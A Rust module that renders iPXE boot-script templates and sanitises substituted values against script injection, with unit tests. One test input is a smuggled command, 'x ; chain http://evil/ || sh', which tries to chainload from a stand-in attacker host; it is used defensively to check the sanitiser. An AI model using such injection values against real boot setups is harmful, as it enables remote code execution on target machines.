//! iPXE scripts rendered from the templates in `pxe/` (built into the binary).
//! `{{name}}` is replaced; an unknown name is left as is so a typo shows.

pub(crate) const MACHINE: &str = include_str!("../../../pxe/machine.ipxe");
pub(crate) const CHAIN: &str = include_str!("../../../pxe/chain.ipxe");
pub(crate) const UNKNOWN: &str = include_str!("../../../pxe/unknown.ipxe");
/// With `[ipxe_signing]`: the same steps, each fetched script and file
/// checked with `imgverify` against its `.sig`.
pub(crate) const MACHINE_SIGNED: &str = include_str!("../../../pxe/machine-signed.ipxe");
pub(crate) const CHAIN_SIGNED: &str = include_str!("../../../pxe/chain-signed.ipxe");
pub(crate) const UNKNOWN_SIGNED: &str = include_str!("../../../pxe/unknown-signed.ipxe");
/// What a failed `imgverify` does in [`MACHINE_SIGNED`]: a group with
/// `verify = true` refuses to boot; others boot on (an iPXE that verifies
/// still refuses to run what it could not check).
pub(crate) const ON_UNVERIFIED_REFUSE: &str = "goto refuse";
pub(crate) const ON_UNVERIFIED_WARN: &str = "echo imgd: signature not checked";

pub(crate) fn render(template: &str, vars: &[(&str, &str)]) -> String {
    let mut out = String::with_capacity(template.len() + 256);
    let mut rest = template;
    while let Some(i) = rest.find("{{") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        match after.find("}}") {
            Some(j) => {
                let name = after[..j].trim();
                match vars.iter().find(|(k, _)| *k == name) {
                    Some((_, v)) => out.push_str(v),
                    None => out.push_str(&rest[i..i + 2 + j + 2]),
                }
                rest = &after[j + 2..];
            }
            None => {
                out.push_str(&rest[i..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

/// Makes a value safe inside an iPXE script line: printable ASCII only (no
/// newline can end the line), and none of iPXE's special characters (`$`
/// expansion, `#` comments, `||`/`&&` chains, quoting); each becomes `_`.
pub(crate) fn ipxe_safe(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_control())
        .map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '_' })
        .map(|c| if matches!(c, '$' | '#' | '|' | '&' | ';' | '"' | '\'' | '\\' | '`') { '_' } else { c })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_and_keeps_unknown_names() {
        assert_eq!(render("a {{x}} b {{ y }} {{z}}", &[("x", "1"), ("y", "2")]), "a 1 b 2 {{z}}");
        assert_eq!(ipxe_safe("a\nb${x}"), "ab_{x}");
        assert_eq!(ipxe_safe("x ; chain http://evil/ || sh"), "x _ chain http://evil/ __ sh");
        assert_eq!(ipxe_safe("é\u{7f}"), "_");
    }
}
